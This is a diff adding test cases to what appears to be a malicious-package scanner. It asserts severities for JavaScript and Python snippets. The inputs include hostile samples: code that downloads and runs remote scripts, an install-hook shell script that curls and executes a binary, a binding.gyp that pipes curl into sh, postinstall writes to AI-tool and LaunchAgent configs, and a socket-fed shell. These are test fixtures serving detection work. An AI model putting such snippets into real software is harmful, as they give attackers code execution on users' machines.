@@ -287,3 +287,53 @@ test('a worker that a bundler ships in base64 is read, and judged by what it doe
   ]) assert.equal(worst(shipped(code, other).replace('const jsContent', 'let jsContent')), 'high', other);
   assert.equal(worst(shipped('this is no script '.repeat(60), START)), 'high');
 });
+
+test('bad: programs that are fed, scripts that are written and loaded, and code that a browser is given', () => {
+  for (const code of [
+    'const { spawn } = require("child_process"); fetch(u).then((r) => r.text()).then((t) => { const p = spawn("node", ["-"]); p.stdin.end(t) })',
+    'const p = require("child_process").spawn(process.execPath, ["-"]); require("https").get(u, (r) => r.on("data", (d) => p.stdin.write(d)))',
+    'const w = new WebSocket(u); w.onmessage = (e) => chrome.tabs.executeScript(id, { code: e.data })',
+    'fetch(u).then((r) => r.json()).then(({ pac }) => chrome.proxy.settings.set({ value: { pacScript: { data: pac } } }))',
+  ]) assert.equal(worst(code), 'critical', code);
+  assert.equal(worst('const fs = require("fs"), path = require("path"); const file = path.join(__dirname, "zz.js"); fetch(u).then((r) => r.text()).then((t) => { fs.writeFileSync(file, t); require(file) })'), 'high');
+  assert.equal(worst('import { connect } from "net"; import * as cp from "child_process"; const s = connect(1, h); cp.execFile(process.env.SHELL ?? "sh")'), 'high');
+  for (const code of [
+    'const p = require("child_process").spawn("ffmpeg", ["-i", "-"]); require("https").get(u, (r) => r.on("data", (d) => p.stdin.write(d)))',
+    'const p = require("child_process").spawn("node", ["-"]); p.stdin.end("run()"); fetch(u)',
+    'chrome.tabs.executeScript(id, { file: "content.js" }); fetch(u)',
+    'chrome.proxy.settings.set({ value: { mode: "system" } }); fetch(u)',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('commands in files of their own, where something starts them', () => {
+  const SETUP = '#!/bin/sh\nmkdir -p logs\ncurl -s http://203.0.113.9/x -o x\nchmod +x x\n./x\n';
+  const start = { original: { scripts: { install: 'sh scripts/setup.sh' } } };
+  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }, start), ['high scripts/setup.sh:2']);
+  assert.deepEqual(said(rule, { 'index.js': 'require("child_process").spawn("sh", ["scripts/setup.sh"])', 'scripts/setup.sh': SETUP }), ['high scripts/setup.sh:2']);
+  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': SETUP }), [], 'nothing starts it');
+  assert.deepEqual(said(rule, { 'index.js': '', 'scripts/setup.sh': '#!/bin/sh\n# curl -s https://example.org/x | sh\nrm -rf /tmp/x\nnode -e "fetch(\'https://example.org\')"\n' }, start), []);
+  assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "variables": { "x": "<!(curl -s https://example.org/x | sh)" } }] }' }), ['high binding.gyp:1']);
+  assert.deepEqual(said(rule, { 'index.js': '', 'binding.gyp': '{ "targets": [{ "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"] }] }' }), []);
+});
+
+test('what is changed at installation, and wheels', () => {
+  const write = (path: string) => `const fs = require("fs"); fs.writeFileSync(home + "${path}", JSON.stringify(x))`;
+  const installed = (code: string) => findingsOf(rule, { 'a.js': code }, { original: { scripts: { postinstall: 'node a.js' } } })[0]?.severity ?? 'nothing';
+  for (const path of ['/.cursor/mcp.json', '/.claude/settings.json', '/Library/LaunchAgents/a.plist', '/.github/workflows/a.yml']) {
+    assert.equal(installed(write(path)), 'high', path);
+    assert.equal(worst(write(path)), 'nothing', 'when somebody asks for it');
+  }
+  assert.equal(installed(write('/.git/hooks/pre-commit')), 'nothing', 'as tools for hooks do');
+  assert.equal(worst('import subprocess\nsubprocess.check_call(["pip", "install", "https://example.org/a-1.0-py3-none-any.whl"])', 'a.py'), 'high');
+  assert.equal(worst('import subprocess\nsubprocess.check_call(["pip", "install", "-r", "requirements.txt"])', 'a.py'), 'nothing');
+});
+
+test('programs that start what was downloaded, packages of Python by their address, commands of a socket', () => {
+  const DOWNLOAD = 'const cp = require("child_process"), os = require("os"), fs = require("fs"), path = require("path"); const file = path.join(os.tmpdir(), "a.bat"); require("https").get(u, (r) => r.pipe(fs.createWriteStream(file))); ';
+  for (const code of ['cp.exec(`start /min "" "${file}"`)', 'cp.exec(`python3 "${file}"`)']) assert.equal(worst(DOWNLOAD + code), 'high', code);
+  assert.equal(worst(`${DOWNLOAD}cp.exec(\`tar -xf "\${file}"\`)`), 'nothing');
+  assert.equal(worst('const cp = require("child_process"), fs = require("fs"); const jar = home + "/lib.jar"; require("https").get(u, (r) => r.pipe(fs.createWriteStream(jar))); cp.spawn("java", ["-jar", jar])'), 'high');
+  assert.equal(worst('import os, sys\nos.system(f"{sys.executable} -m pip install -q git+https://git.example.invalid/x")', 'a.py'), 'high');
+  assert.equal(worst('import subprocess, socket\ns = socket.create_connection(("c.example.invalid", 1))\nsubprocess.run(s.recv(99).decode(), shell=True)', 'a.py'), 'critical');
+  for (const code of ['import os\nos.system("pip install torch --index-url https://download.example.org/whl/cu121")', 'import os\nos.system("pip install torch")']) assert.equal(worst(code, 'a.py'), 'nothing', code);
+});
